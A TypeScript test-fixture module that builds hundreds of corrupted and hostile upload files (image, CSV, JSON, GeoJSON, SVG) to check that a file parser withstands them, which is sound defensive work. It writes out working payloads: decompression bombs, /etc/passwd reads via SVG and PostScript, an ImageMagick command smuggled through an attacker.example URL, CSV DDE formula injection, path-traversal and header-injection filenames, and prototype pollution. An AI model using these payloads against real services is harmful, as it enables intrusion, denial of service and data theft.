// More than two hundred files that are made to break what reads them. Most are tricks on one format; the others are damage to a good file.
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import ExcelJS from 'exceljs';
import { onePagePdf } from '#demo/one-page-pdf.server.ts';
import { aPicture } from './a-picture.server.ts';
import { aZip } from './a-zip.server.ts';
import { aHostileFile, type Bytes, type HostileFile } from './hostile-file.server.ts';
import { hostilePdfs } from './hostile-pdfs.server.ts';
import { entities, hostileWorkbooks } from './hostile-workbooks.server.ts';

const MB = 1024 * 1024;
const fileOf = (text: string) => Buffer.from(text);

export type GoodFile = { what: string; name: string; bytes: Buffer };

/** Good files, from which damaged ones are made. The test sends these, too. */
export async function goodFiles(): Promise<GoodFile[]> {
  const book = new ExcelJS.Workbook();
  book.addWorksheet('Items').addRows([
    ['Position', 'Item', 'Quantity', 'Description', 'Unit'],
    ['1', 'GOOD-1', 2, 'Bed', 'EA'],
  ]);
  const png = await aPicture({ width: 300, height: 100 });
  return [
    { what: 'a PNG', name: 'a.png', bytes: png },
    { what: 'a JPEG', name: 'a.jpg', bytes: await aPicture({ width: 300, height: 100, format: 'jpeg' }) },
    { what: 'a GIF', name: 'a.gif', bytes: await aPicture({ format: 'gif' }) },
    { what: 'a WebP', name: 'a.webp', bytes: await aPicture({ format: 'webp' }) },
    { what: 'a TIFF', name: 'a.tiff', bytes: await aPicture({ format: 'tiff' }) },
    { what: 'a PDF', name: 'a.pdf', bytes: onePagePdf(['A bed', 'with rails']) },
    { what: 'a workbook', name: 'a.xlsx', bytes: Buffer.from(await book.xlsx.writeBuffer()) },
    { what: 'a ZIP of pictures', name: 'a.zip', bytes: aZip([{ name: 'GOOD-1.png', bytes: png }]) },
    { what: 'a CSV', name: 'a.csv', bytes: fileOf('Position,Item,Quantity,Description,Unit\n1,GOOD-1,2,Bed,EA\n') },
  ];
}

const DAMAGE: [what: string, change: (bytes: Buffer) => Buffer][] = [
  ['its first 16 bytes', (bytes) => bytes.subarray(0, 16)],
  ['its first half', (bytes) => bytes.subarray(0, bytes.length / 2)],
  ['without its last 20 bytes', (bytes) => bytes.subarray(0, bytes.length - 20)],
  ['zeros from its middle', (bytes) => Buffer.concat([bytes.subarray(0, bytes.length / 2), Buffer.alloc(100_000)])],
  [
    'each 13th byte flipped',
    (bytes) => Buffer.from(bytes.map((byte, at) => (at > 16 && at % 13 === 0 ? ~byte : byte))),
  ],
  ['great lengths', (bytes) => Buffer.from(bytes).fill(0xff, 20, Math.min(bytes.length, 36))],
  ['twice', (bytes) => Buffer.concat([bytes, bytes])],
  ['with a page behind it', (bytes) => Buffer.concat([bytes, fileOf('<html><script>window.hacked=1</script>')])],
  ['with a program before it', (bytes) => Buffer.concat([fileOf('MZ\u0090\u0000'), bytes])],
  [
    'with an archive behind it',
    (bytes) => Buffer.concat([bytes, aZip([{ name: '../../a.sh', bytes: fileOf('#!/bin/sh') }])]),
  ],
];

/** Each kind of content under the name of each other kind. */
const NAMES = ['a.png', 'a.pdf', 'a.xlsx', 'a.csv', 'a.zip', 'a'];

function pngOf(width: number, height: number, more: Buffer[] = [], type = [8, 2, 0, 0, 0]): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width >>> 0, 0);
  head.writeUInt32BE(height >>> 0, 4);
  head.set(type, 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', head),
    ...more,
    chunk('IDAT', deflateSync(Buffer.alloc(100_000))),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}
function chunk(type: string, data: Buffer, length = data.length): Buffer {
  const body = Buffer.concat([fileOf(type), data]);
  const ends = Buffer.alloc(8);
  ends.writeUInt32BE(length, 0);
  ends.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([ends.subarray(0, 4), body, ends.subarray(4)]);
}

function pictures(good: (what: string) => Buffer): HostileFile[] {
  const bomb = () => deflateSync(Buffer.alloc(64 * MB));
  const named = fileOf('a\0\0');
  const jpeg = good('a JPEG');
  const sof = jpeg.indexOf(Buffer.from([0xff, 0xc0]));
  const scan = jpeg.subarray(jpeg.indexOf(Buffer.from([0xff, 0xda])), jpeg.length - 2);
  const changed = (bytes: Buffer, change: (copy: Buffer) => unknown) => {
    const copy = Buffer.from(bytes);
    change(copy);
    return copy;
  };
  const tiff = (entries: [tag: number, type: number, count: number, value: number][], next: number) => {
    const bytes = Buffer.alloc(8 + 2 + entries.length * 12 + 4);
    bytes.write('II*\0', 'latin1');
    bytes.writeUInt32LE(8, 4);
    bytes.writeUInt16LE(entries.length, 8);
    for (const [at, [tag, type, count, value]] of entries.entries()) {
      bytes.writeUInt16LE(tag, 10 + at * 12);
      bytes.writeUInt16LE(type, 12 + at * 12);
      bytes.writeUInt32LE(count, 14 + at * 12);
      bytes.writeUInt32LE(value, 18 + at * 12);
    }
    bytes.writeUInt32LE(next, bytes.length - 4);
    return bytes;
  };
  const size = (width: number, height: number): [number, number, number, number][] => [
    [256, 4, 1, width],
    [257, 4, 1, height],
    [258, 3, 1, 8],
    [259, 3, 1, 1],
    [262, 3, 1, 1],
  ];
  const gif = (width: number, height: number, frames: number) => {
    const head = Buffer.alloc(13);
    head.write('GIF89a');
    head.writeUInt16LE(width, 6);
    head.writeUInt16LE(height, 8);
    const frame = Buffer.concat([
      Buffer.from([0x2c, 0, 0, 0, 0]),
      head.subarray(6, 10),
      Buffer.from([0, 2, 1, 0x44, 0]),
    ]);
    return Buffer.concat([head, ...Array.from({ length: frames }, () => frame), fileOf(';')]);
  };
  const svg = (text: string) => fileOf(`<svg xmlns="http://www.w3.org/2000/svg">${text}</svg>`);
  return (
    [
      ['60,000 × 60,000 pixels', 'a.png', pngOf(60_000, 60_000)],
      ['2³¹ pixels wide', 'a.png', pngOf(2 ** 31 - 1, 1)],
      ['a width below zero', 'a.png', pngOf(-1, -1)],
      ['no pixels', 'a.png', pngOf(0, 0)],
      ['fewer lines than it says', 'a.png', pngOf(7000, 7000, [], [16, 6, 0, 0, 0])],
      ['an unknown color type', 'a.png', pngOf(100, 100, [], [8, 77, 9, 9, 9])],
      ['a palette without colors', 'a.png', pngOf(100, 100, [], [8, 3, 0, 0, 0])],
      ['a chunk longer than the file', 'a.png', pngOf(100, 100, [chunk('tEXt', fileOf('a'), 0x7fff_ffff)])],
      ['a color profile of 64 MB', 'a.png', () => pngOf(100, 100, [chunk('iCCP', Buffer.concat([named, bomb()]))])],
      ['a text of 64 MB', 'a.png', () => pngOf(100, 100, [chunk('zTXt', Buffer.concat([named, bomb()]))])],
      ['64 MB of points for a small picture', 'a.png', () => pngOf(50, 50, [chunk('IDAT', bomb())])],
      ['5,000 empty chunks', 'a.png', () => pngOf(50, 50, Array(5000).fill(chunk('tEXt', fileOf('a\0b'))) as Buffer[])],
      ['nothing but a beginning', 'a.png', pngOf(1, 1).subarray(0, 8)],
      ['a JPEG of 65,500 × 65,500', 'a.jpg', changed(jpeg, (copy) => copy.writeUInt32BE(0xffdc_ffdc, sof + 5))],
      ['a JPEG without height', 'a.jpg', changed(jpeg, (copy) => copy.writeUInt16BE(0, sof + 5))],
      ['a JPEG of 200 colors', 'a.jpg', changed(jpeg, (copy) => copy.writeUInt8(200, sof + 9))],
      [
        'a JPEG of 3,000 scans',
        'a.jpg',
        () => Buffer.concat([jpeg.subarray(0, -2), ...(Array(3000).fill(scan) as Buffer[])]),
      ],
      ['a JPEG that begins only', 'a.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xe0])],
      ['a JPEG of fill bytes', 'a.jpg', () => Buffer.concat([Buffer.from([0xff, 0xd8]), Buffer.alloc(5 * MB, 0xff)])],
      ['a GIF of 65,535 × 65,535', 'a.gif', gif(65_535, 65_535, 1)],
      ['a GIF of 20,000 frames', 'a.gif', () => gif(100, 100, 20_000)],
      ['a GIF without frames', 'a.gif', gif(100, 100, 0)],
      ['a TIFF whose directory follows itself', 'a.tif', tiff(size(100, 100), 8)],
      ['a TIFF of 60,000 × 60,000', 'a.tif', tiff(size(60_000, 60_000), 0)],
      ['a TIFF of 2³² strips', 'a.tif', tiff([...size(100, 100), [273, 4, 0xffff_ffff, 8]], 0)],
      [
        'a TIFF with its directory far out',
        'a.tif',
        changed(tiff([], 0), (copy) => copy.writeUInt32LE(0xffff_fff0, 4)),
      ],
      ['a WebP of 16,383 × 16,383', 'a.webp', changed(good('a WebP'), (copy) => copy.writeUInt32LE(0x3fff_3fff, 26))],
      ['a WebP longer than it is', 'a.webp', changed(good('a WebP'), (copy) => copy.writeUInt32LE(0xffff_fffe, 4))],
      ['a drawing that runs', 'a.svg', svg('<script>window.hacked=1</script>')],
      ['a drawing called a picture', 'a.png', svg('<image href="file:///etc/passwd"/>')],
      ['a drawing of entities', 'a.svg', fileOf(`${entities()}<svg>&e9;</svg>`)],
      ['a drawing nested without end', 'a.png', () => svg('<g>'.repeat(200_000))],
      ['PostScript', 'a.eps', fileOf('%!PS\n(/etc/passwd) (r) file run')],
      ['an ImageMagick script', 'a.png', fileOf('push graphic-context\nfill \'url(https://attacker.example/a"|id")\'')],
      ['a picture for a phone', 'a.heic', fileOf('\0\0\0\u0018ftypheic\0\0\0\0')],
    ] as [string, string, Bytes][]
  ).map(([what, name, bytes]) => aHostileFile(what, name, bytes));
}

function texts(): HostileFile[] {
  const HEAD = 'Item,Description,Unit\n';
  return (
    [
      ['20 MB in one line', 'a.csv', () => fileOf('a'.repeat(20 * MB))],
      ['a million columns', 'a.csv', () => fileOf(','.repeat(1_000_000))],
      ['a quote that never ends', 'a.csv', () => fileOf(`${HEAD}"${'a,\n'.repeat(500_000)}`)],
      ['nothing but quotes', 'a.csv', () => fileOf('"'.repeat(500_001))],
      ['quotes in quotes', 'a.csv', () => fileOf(`${HEAD}${'"a""b"c"",'.repeat(50_000)}`)],
      ['a million blank lines', 'a.csv', () => fileOf('\n'.repeat(1_000_000))],
      ['three million lines', 'a.csv', () => fileOf(`${HEAD}${'a\n'.repeat(3_000_000)}`)],
      ['zeros', 'a.csv', () => Buffer.alloc(1_000_000)],
      ['bytes that are no text', 'a.csv', Buffer.alloc(100_000, 0xfe)],
      ['half letters of UTF-16', 'a.csv', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.alloc(9999, 0xd8)])],
      ['only a byte order mark', 'a.csv', Buffer.from([0xef, 0xbb, 0xbf])],
      ['half letters', 'a.csv', Buffer.concat([fileOf(HEAD), Buffer.from([0xed, 0xa0, 0x80, 0x2c, 0xc0, 0xaf, 0x0a])])],
      ['formulas', 'a.csv', fileOf(`${HEAD}=cmd|'/c calc'!A1,@SUM(1),+1\n`)],
      ['the same heading a thousand times', 'a.csv', fileOf(`${'Item,'.repeat(1000)}\n`)],
      ['names of the language', 'a.csv', fileOf('__proto__,constructor,toString\n1,2,3\n')],
      ['markup', 'a.csv', fileOf(`${HEAD}<script>window.hacked=1</script>,<img src=x>,'\n`)],
      ['64 MB packed', 'a.csv', () => gzipSync(Buffer.alloc(64 * MB, 'a,b\n'))],
      ['packed and broken off', 'a.csv', gzipSync(fileOf(HEAD.repeat(9999))).subarray(0, 60)],
      [
        'packed ten times',
        'a.csv',
        Array.from({ length: 10 }).reduce<Buffer>((bytes) => gzipSync(bytes), fileOf(HEAD)),
      ],
      ['lists nested without end', 'a.json', () => fileOf('['.repeat(500_000))],
      ['objects nested without end', 'a.json', () => fileOf(`${'{"items":'.repeat(100_000)}1${'}'.repeat(100_000)}`)],
      [
        'a prototype',
        'a.json',
        fileOf('{"__proto__":{"admin":true},"configId":"a","items":[{"__proto__":{"qty":1}}]}'),
      ],
      [
        'numbers beyond numbers',
        'a.json',
        fileOf(`{"configId":"a","items":[{"itemNumber":"a","qty":1e999},{"qty":${'9'.repeat(5000)}}]}`),
      ],
      ['half a million items', 'a.json', () => fileOf(`{"configId":"a","items":[${'{},'.repeat(500_000)}{}]}`)],
      ['JSON broken off', 'a.json', fileOf('{"configId":"a","items":[{"itemNumber":')],
      [
        'a place far out',
        'a.geojson',
        fileOf(
          '{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"ZCTA5CE20":"60601"},"geometry":{"type":"Polygon","coordinates":[[[1e308,1e308],[-1e308,0],[0,0],[1e308,1e308]]]}}]}',
        ),
      ],
      [
        'an area of 300,000 corners that cross',
        'a.geojson',
        () =>
          fileOf(
            `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{"ZCTA5CE20":"60601"},"geometry":{"type":"Polygon","coordinates":[[${Array.from({ length: 300_000 }, (_, at) => `[${-88 + (at % 2)},${40 + (at % 997) / 1000}]`).join()}]]}}]}`,
          ),
      ],
      [
        'places nested without end',
        'a.geojson',
        () => fileOf(`{"type":"FeatureCollection","features":[{"geometry":{"coordinates":${'['.repeat(200_000)}`),
      ],
      ['a shell script', 'a.txt', fileOf('#!/bin/sh\nid\n')],
      ['a page', 'a.html', fileOf('<!doctype html><script>window.hacked=1</script>')],
      ['nothing', 'a.pdf', Buffer.alloc(0)],
      ['a name that leads outside', '../../../../tmp/evil.csv', fileOf(HEAD)],
      ['a name with a line end', 'a\r\nSet-Cookie: a=b.csv', fileOf(HEAD)],
      ['a name that reads backwards', 'a\u202evsc.exe', fileOf(HEAD)],
      ['a name of 5,000 letters', `${'a'.repeat(5000)}.csv`, fileOf(HEAD)],
    ] as [string, string, Bytes][]
  ).map(([what, name, bytes]) => aHostileFile(what, name, bytes));
}

export async function hostileFiles(): Promise<HostileFile[]> {
  const good = await goodFiles();
  const byName = (what: string) => good.find((file) => file.what === what)?.bytes ?? Buffer.alloc(0);
  return [
    ...good.flatMap(({ what, name, bytes }) =>
      DAMAGE.map(([how, change]) => aHostileFile(`${what}, ${how}`, name, change(bytes))),
    ),
    ...good.flatMap(({ what, name: own, bytes }) =>
      NAMES.filter((name) => name !== own).map((name) => aHostileFile(`${what}, called ${name}`, name, bytes)),
    ),
    ...pictures(byName),
    ...hostilePdfs(),
    ...hostileWorkbooks(),
    ...texts(),
  ];
}
